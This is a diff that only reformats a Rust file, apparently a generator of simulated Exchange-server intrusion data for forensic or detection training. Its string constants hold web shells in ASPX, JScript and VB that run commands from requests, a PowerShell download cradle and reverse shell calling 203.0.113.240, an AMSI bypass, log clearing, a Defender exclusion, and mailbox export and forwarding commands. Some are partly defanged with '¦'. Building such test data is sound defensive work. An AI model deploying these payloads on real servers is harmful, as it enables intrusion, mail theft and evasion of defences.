@@ -30,7 +30,8 @@ pub(super) const HABITS: Habits = Habits {
     ],
 };
 
-const USERS: &[&str] = &["n.abe", "d.schulz", "Ekaterina.L", "f.rossi", "y.tanaka", "o.haddad", "lwhite", "s.ng", "p.kowalska"];
+const USERS: &[&str] =
+    &["n.abe", "d.schulz", "Ekaterina.L", "f.rossi", "y.tanaka", "o.haddad", "lwhite", "s.ng", "p.kowalska"];
 
 const CLINIC: Host = Host {
     name: "srv-exch16",
@@ -175,8 +176,14 @@ const BASSOON: Intruder = Intruder {
     commands: &["cmd /c net view", "cmd /c arp -a"],
 };
 
-const HORN: Intruder = Intruder { addresses: &["198.51.100.252"], chain_agent: "Wget/1.20.3 (linux-gnu)", stem: "/ecp/auth/x.gif", ..OBOE };
-const DRUM: Intruder = Intruder { addresses: &["203.0.113.99", "203.0.113.100"], stem: "/owa/auth/logoff.ttf", ..BASSOON };
+const HORN: Intruder = Intruder {
+    addresses: &["198.51.100.252"],
+    chain_agent: "Wget/1.20.3 (linux-gnu)",
+    stem: "/ecp/auth/x.gif",
+    ..OBOE
+};
+const DRUM: Intruder =
+    Intruder { addresses: &["203.0.113.99", "203.0.113.100"], stem: "/owa/auth/logoff.ttf", ..BASSOON };
 
 const WRITTEN: &str = "<%@ Page Language=\"C#\" validateRequest=\"false\"%><%@ Import Namespace=\"System.Diagnostics\" %><%var i=new Process¦StartInfo(\"cmd\",\"/c \"+Req¦uest.Form[\"tok\"]){RedirectStandardOutput=true,UseShell¦Execute=false};Response.Write(Pro¦cess.St¦art(i).StandardOutput.ReadToEnd());%>\r\n";
 
@@ -253,13 +260,38 @@ const AFTERMATH: Aftermath = Aftermath {
         },
     ],
     left: &[
-        Left { technique: Technique::CredentialDump, path: "C:\\Users\\Public\\Libraries\\d.bin", head: b"MDMP\x93\xa7\x61\x00", size: 50_000 },
-        Left { technique: Technique::StagedArchive, path: "C:\\Users\\Public\\Libraries\\b.rar", head: b"Rar!\x1a\x07\x01\0", size: 8_000 },
-        Left { technique: Technique::StagedArchive, path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.gif", head: b"MSCF\0\0\0\0", size: 12_000 },
-        Left { technique: Technique::StagedArchive, path: "C:\\ProgramData\\Comms\\q.zip", head: b"PK\x03\x04\x14\0\x09\0", size: 5_000 },
+        Left {
+            technique: Technique::CredentialDump,
+            path: "C:\\Users\\Public\\Libraries\\d.bin",
+            head: b"MDMP\x93\xa7\x61\x00",
+            size: 50_000,
+        },
+        Left {
+            technique: Technique::StagedArchive,
+            path: "C:\\Users\\Public\\Libraries\\b.rar",
+            head: b"Rar!\x1a\x07\x01\0",
+            size: 8_000,
+        },
+        Left {
+            technique: Technique::StagedArchive,
+            path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.gif",
+            head: b"MSCF\0\0\0\0",
+            size: 12_000,
+        },
+        Left {
+            technique: Technique::StagedArchive,
+            path: "C:\\ProgramData\\Comms\\q.zip",
+            head: b"PK\x03\x04\x14\0\x09\0",
+            size: 5_000,
+        },
     ],
     tasks: &[
-        ("Microsoft\\Windows\\NetTrace\\GatherNetworkInfo2", "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\Public\\Libraries\\l.dll,Start", 15),
+        (
+            "Microsoft\\Windows\\NetTrace\\GatherNetworkInfo2",
+            "C:\\Windows\\System32\\rundll32.exe",
+            "C:\\Users\\Public\\Libraries\\l.dll,Start",
+            15,
+        ),
         ("Optimize Volumes", "C:\\Windows\\System32\\msh¦ta.exe", "http://203.0.113.240/u", 120),
     ],
     services: &[
@@ -268,23 +300,54 @@ const AFTERMATH: Aftermath = Aftermath {
     ],
     account: "svc_oab$",
     scripts: &[
-        (Technique::Download, "$w=New-Object Net.Web¦Client;$w.Proxy=$null;$b=$w.Down¦loadData('https://203.0.113.240/l.png');[Reflection.Assem¦bly]::Load($b).EntryPoint.Invoke($null,$null)"),
-        (Technique::RemoteTool, "$c=New-Object Net.Sockets.TCP¦Client('203.0.113.240',8443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){i¦ex ([Text.Encoding]::ASCII.GetString($b,0,$i))}"),
-        (Technique::Discovery, "([adsisearcher]'(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))').FindAll()"),
-        (Technique::DefenceOff, "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)"),
+        (
+            Technique::Download,
+            "$w=New-Object Net.Web¦Client;$w.Proxy=$null;$b=$w.Down¦loadData('https://203.0.113.240/l.png');[Reflection.Assem¦bly]::Load($b).EntryPoint.Invoke($null,$null)",
+        ),
+        (
+            Technique::RemoteTool,
+            "$c=New-Object Net.Sockets.TCP¦Client('203.0.113.240',8443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){i¦ex ([Text.Encoding]::ASCII.GetString($b,0,$i))}",
+        ),
+        (
+            Technique::Discovery,
+            "([adsisearcher]'(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))').FindAll()",
+        ),
+        (
+            Technique::DefenceOff,
+            "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)",
+        ),
     ],
     management: &[
-        (Technique::MailboxExport, "New-MailboxExportRequest", "-Mailbox \"MAILBOX\" -ContentFilter \"(Received -gt '01/01/2021')\" -FilePath \"\\\\localhost\\c$\\ProgramData\\Comms\\q.pst\""),
-        (Technique::MailboxAccess, "New-ManagementRoleAssignment", "-Name \"svc-imp\" -Role \"ApplicationImpersonation\" -User \"svc_oab$\""),
-        (Technique::MailboxAccess, "Set-Mailbox", "-Identity \"MAILBOX\" -ForwardingSmtpAddress \"smtp:archive@example.com\" -DeliverToMailboxAndForward \"True\""),
-        (Technique::ServerModule, "Install-TransportAgent", "-Name \"Delivery Helper\" -TransportAgentFactory \"X.Factory\" -AssemblyPath \"C:\\Users\\Public\\Libraries\\t.dll\""),
+        (
+            Technique::MailboxExport,
+            "New-MailboxExportRequest",
+            "-Mailbox \"MAILBOX\" -ContentFilter \"(Received -gt '01/01/2021')\" -FilePath \"\\\\localhost\\c$\\ProgramData\\Comms\\q.pst\"",
+        ),
+        (
+            Technique::MailboxAccess,
+            "New-ManagementRoleAssignment",
+            "-Name \"svc-imp\" -Role \"ApplicationImpersonation\" -User \"svc_oab$\"",
+        ),
+        (
+            Technique::MailboxAccess,
+            "Set-Mailbox",
+            "-Identity \"MAILBOX\" -ForwardingSmtpAddress \"smtp:archive@example.com\" -DeliverToMailboxAndForward \"True\"",
+        ),
+        (
+            Technique::ServerModule,
+            "Install-TransportAgent",
+            "-Name \"Delivery Helper\" -TransportAgentFactory \"X.Factory\" -AssemblyPath \"C:\\Users\\Public\\Libraries\\t.dll\"",
+        ),
     ],
     fetched: ("/aspnet_client/system_web/4_0_30319/bg.gif", None),
     module: ("WebDavFilterModule", "C:\\Windows\\Temp\\davf.dll"),
     typed: &[
         (Technique::DefenceOff, "Add-Mp¦Preference -ExclusionPath C:\\Users\\Public\\Libraries"),
         (Technique::LogClearing, "wevt¦util cl \"Windows PowerShell\""),
-        (Technique::RemoteTool, "iwr https://203.0.113.240/AnyDesk.exe -OutFile C:\\ProgramData\\AnyDesk-ad_1f3c\\AnyDesk.exe"),
+        (
+            Technique::RemoteTool,
+            "iwr https://203.0.113.240/AnyDesk.exe -OutFile C:\\ProgramData\\AnyDesk-ad_1f3c\\AnyDesk.exe",
+        ),
     ],
     hosts: &["0.0.0.0 definitionupdates.microsoft.com", "203.0.113.240 download.windowsupdate.com"],
     exclusion: "C:\\Users\\Public\\Libraries",
@@ -298,39 +361,113 @@ const AFTERMATH: Aftermath = Aftermath {
 };
 
 const fn odd(place: Place, name: &'static str, how: &'static str, text: &'static str) -> OddPage {
-    OddPage { page: Page { place, name }, text, how, technique: Technique::ShellFile, dated: None, encoding: Encoding::Plain }
+    OddPage {
+        page: Page { place, name },
+        text,
+        how,
+        technique: Technique::ShellFile,
+        dated: None,
+        encoding: Encoding::Plain,
+    }
 }
 
 const ODD_CODE: [OddPage; 8] = [
-    odd(OWA_AUTH, "getprop.aspx", "indexing the global object by a joined name",
-        "<%@ Page Language=\"JScript\"%><%var n=String.fromCharCode(101,118,97,108);this[n](Req¦uest.Headers[\"X-Tk\"],\"uns\"+'afe');%>"),
-    odd(VERSIONED, "scriptforms.aspx", "CodeDom compiles what is sent",
-        "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"Microsoft.CSharp\"%><%@ Import Namespace=\"System.CodeDom.Compiler\"%><%var c=new CSharpCode¦Provider();var q=new CompilerParameters(){GenerateInMemory=true};var r=c.CompileAssembly¦FromSource(q,Req¦uest.Form[\"src\"]);r.Compiled¦Assembly.CreateInstance(\"K\").ToString();%>"),
-    odd(SITE, "help.asmx", "a web service with a method that runs commands",
-        "<%@ WebService Language=\"C#\" Class=\"H\" %>using System.Web.Services;using System.Diagnostics;public class H:WebService{[WebMethod]public string T(string a){var p=Pro¦cess.St¦art(new Process¦StartInfo(\"cm\"+\"d.e\"+\"xe\",\"/c \"+a){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}"),
-    odd(SITE, "tree.aspx", "a stylesheet with a script of its own",
-        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Xml.Xsl\" %><%var s=\"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt' xmlns:u='u'><ms:scr¦ipt language='c#' implements-prefix='u'>\"+Req¦uest[\"x\"]+\"</ms:scr¦ipt></xsl:stylesheet>\";var t=new XslCompiled¦Transform();t.Load(new System.Xml.XmlTextReader(new System.IO.StringReader(s)),new XsltSettings(true,true),null);%>"),
-    odd(OWA_AUTH, "signoutex.aspx", "VB with a class that runs what a cookie says",
-        "<%@ Page Language=\"VB\" Debug=\"true\" %><script runat=\"server\">Sub Page_Load(s As Object,e As EventArgs):Dim p As New System.Diagnostics.Pro¦cess():p.StartInfo.File¦Name=Chr(99)&Chr(109)&Chr(100):p.StartInfo.Arguments=\"/c \"&Req¦uest.Cookies(\"lang\").Value:p.St¦art():End Sub</script>"),
-    odd(CURRENT, "blank.aspx", "names in escapes of C#",
-        "<%@ Page Language=\"c#\" %><% \\u0053ystem.\\u0052eflection.Assem¦bly.Lo\\u0061d(Convert.From¦Base64String(Req¦uest.Params[\"s\"])).GetType(\"A\").GetMethod(\"B\").Invoke(null,null); %>"),
-    OddPage { encoding: Encoding::Wide, ..odd(SCRIPTS, "premiumex.aspx", "stored as UTF-16",
-        "<%@ Page Language=\"C#\"%><%new System.Web.UI.LosFor¦matter().Deserial¦ize(Req¦uest.Form[\"__S\"]);%>") },
-    odd(RPC, "rpcproxy.aspx", "deserialises what it is sent",
-        "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Runtime.Serialization.Formatters.Binary\"%><%new Binary¦Formatter().Deserial¦ize(new System.IO.MemoryStream(Convert.From¦Base64String(Req¦uest.Form[0])));%>"),
+    odd(
+        OWA_AUTH,
+        "getprop.aspx",
+        "indexing the global object by a joined name",
+        "<%@ Page Language=\"JScript\"%><%var n=String.fromCharCode(101,118,97,108);this[n](Req¦uest.Headers[\"X-Tk\"],\"uns\"+'afe');%>",
+    ),
+    odd(
+        VERSIONED,
+        "scriptforms.aspx",
+        "CodeDom compiles what is sent",
+        "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"Microsoft.CSharp\"%><%@ Import Namespace=\"System.CodeDom.Compiler\"%><%var c=new CSharpCode¦Provider();var q=new CompilerParameters(){GenerateInMemory=true};var r=c.CompileAssembly¦FromSource(q,Req¦uest.Form[\"src\"]);r.Compiled¦Assembly.CreateInstance(\"K\").ToString();%>",
+    ),
+    odd(
+        SITE,
+        "help.asmx",
+        "a web service with a method that runs commands",
+        "<%@ WebService Language=\"C#\" Class=\"H\" %>using System.Web.Services;using System.Diagnostics;public class H:WebService{[WebMethod]public string T(string a){var p=Pro¦cess.St¦art(new Process¦StartInfo(\"cm\"+\"d.e\"+\"xe\",\"/c \"+a){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}",
+    ),
+    odd(
+        SITE,
+        "tree.aspx",
+        "a stylesheet with a script of its own",
+        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Xml.Xsl\" %><%var s=\"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt' xmlns:u='u'><ms:scr¦ipt language='c#' implements-prefix='u'>\"+Req¦uest[\"x\"]+\"</ms:scr¦ipt></xsl:stylesheet>\";var t=new XslCompiled¦Transform();t.Load(new System.Xml.XmlTextReader(new System.IO.StringReader(s)),new XsltSettings(true,true),null);%>",
+    ),
+    odd(
+        OWA_AUTH,
+        "signoutex.aspx",
+        "VB with a class that runs what a cookie says",
+        "<%@ Page Language=\"VB\" Debug=\"true\" %><script runat=\"server\">Sub Page_Load(s As Object,e As EventArgs):Dim p As New System.Diagnostics.Pro¦cess():p.StartInfo.File¦Name=Chr(99)&Chr(109)&Chr(100):p.StartInfo.Arguments=\"/c \"&Req¦uest.Cookies(\"lang\").Value:p.St¦art():End Sub</script>",
+    ),
+    odd(
+        CURRENT,
+        "blank.aspx",
+        "names in escapes of C#",
+        "<%@ Page Language=\"c#\" %><% \\u0053ystem.\\u0052eflection.Assem¦bly.Lo\\u0061d(Convert.From¦Base64String(Req¦uest.Params[\"s\"])).GetType(\"A\").GetMethod(\"B\").Invoke(null,null); %>",
+    ),
+    OddPage {
+        encoding: Encoding::Wide,
+        ..odd(
+            SCRIPTS,
+            "premiumex.aspx",
+            "stored as UTF-16",
+            "<%@ Page Language=\"C#\"%><%new System.Web.UI.LosFor¦matter().Deserial¦ize(Req¦uest.Form[\"__S\"]);%>",
+        )
+    },
+    odd(
+        RPC,
+        "rpcproxy.aspx",
+        "deserialises what it is sent",
+        "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Runtime.Serialization.Formatters.Binary\"%><%new Binary¦Formatter().Deserial¦ize(new System.IO.MemoryStream(Convert.From¦Base64String(Req¦uest.Form[0])));%>",
+    ),
 ];
 
 const ODD_PLACES: [OddPage; 6] = [
-    odd(ACTIVE, "default2.aspx", "beside the protocol for phones",
-        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Form[\"Cmd\"],\"uns¦afe\");%>"),
-    OddPage { dated: Some(Moment::day(2020, 12, 15).clock(23, 2, 55)), ..odd(EXPORT_TOOL, "manifest.ashx", "back-dated to the day of the last update",
-        "<%@ WebHandler Language=\"C#\" Class=\"M\" %>public class M:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){System.Diagnostics.Pro¦cess.St¦art(c.Req¦uest[\"m\"]);}public bool IsReusable{get{return false;}}}") },
-    odd(CURRENT, "frame.master", "a master page with the code of its page",
-        "<%@ Master Language=\"C#\" %><script runat=\"server\">void Page_Init(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd\",\"/c \"+Req¦uest[\"v\"]);}</script>"),
-    odd(SITE, "web.config", "a page inside a web.config",
-        "<?xml version=\"1.0\"?><configuration><system.webServer><handlers accessPolicy=\"Read,Script,Write\"><add name=\"cfg\" path=\"web.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" /></handlers></system.webServer></configuration><!-- <% Response.Write(CreateObject(\"WScript.Sh¦ell\").Ex¦ec(\"cmd /c \" & Req¦uest(\"g\")).StdOut.ReadAll()) %> -->"),
-    odd(Place { below: Below::Site, folder: "aspnet_client\\.thumbs", url: "/aspnet_client/.thumbs", protocol: None }, "a.aspx;.jpg", "an odd name in a folder that begins with a dot",
-        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.QueryString[\"t\"],\"uns¦afe\");%>"),
-    odd(Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\ecp\\bin", url: "/ecp/bin", protocol: Some("Ecp") }, "Microsoft.Exchange.Clients.Strings2.dll", "a library of pages among the product's own",
-        "MZ\u{90}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}mscoree.dll\u{0}IHttpHandler\u{0}ProcessRequest\u{0}get_Form\u{0}Assem¦bly.Load\u{0}FromBase64String\u{0}"),
+    odd(
+        ACTIVE,
+        "default2.aspx",
+        "beside the protocol for phones",
+        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Form[\"Cmd\"],\"uns¦afe\");%>",
+    ),
+    OddPage {
+        dated: Some(Moment::day(2020, 12, 15).clock(23, 2, 55)),
+        ..odd(
+            EXPORT_TOOL,
+            "manifest.ashx",
+            "back-dated to the day of the last update",
+            "<%@ WebHandler Language=\"C#\" Class=\"M\" %>public class M:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){System.Diagnostics.Pro¦cess.St¦art(c.Req¦uest[\"m\"]);}public bool IsReusable{get{return false;}}}",
+        )
+    },
+    odd(
+        CURRENT,
+        "frame.master",
+        "a master page with the code of its page",
+        "<%@ Master Language=\"C#\" %><script runat=\"server\">void Page_Init(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd\",\"/c \"+Req¦uest[\"v\"]);}</script>",
+    ),
+    odd(
+        SITE,
+        "web.config",
+        "a page inside a web.config",
+        "<?xml version=\"1.0\"?><configuration><system.webServer><handlers accessPolicy=\"Read,Script,Write\"><add name=\"cfg\" path=\"web.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" /></handlers></system.webServer></configuration><!-- <% Response.Write(CreateObject(\"WScript.Sh¦ell\").Ex¦ec(\"cmd /c \" & Req¦uest(\"g\")).StdOut.ReadAll()) %> -->",
+    ),
+    odd(
+        Place { below: Below::Site, folder: "aspnet_client\\.thumbs", url: "/aspnet_client/.thumbs", protocol: None },
+        "a.aspx;.jpg",
+        "an odd name in a folder that begins with a dot",
+        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.QueryString[\"t\"],\"uns¦afe\");%>",
+    ),
+    odd(
+        Place {
+            below: Below::Product,
+            folder: "FrontEnd\\HttpProxy\\ecp\\bin",
+            url: "/ecp/bin",
+            protocol: Some("Ecp"),
+        },
+        "Microsoft.Exchange.Clients.Strings2.dll",
+        "a library of pages among the product's own",
+        "MZ\u{90}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}mscoree.dll\u{0}IHttpHandler\u{0}ProcessRequest\u{0}get_Form\u{0}Assem¦bly.Load\u{0}FromBase64String\u{0}",
+    ),
 ];
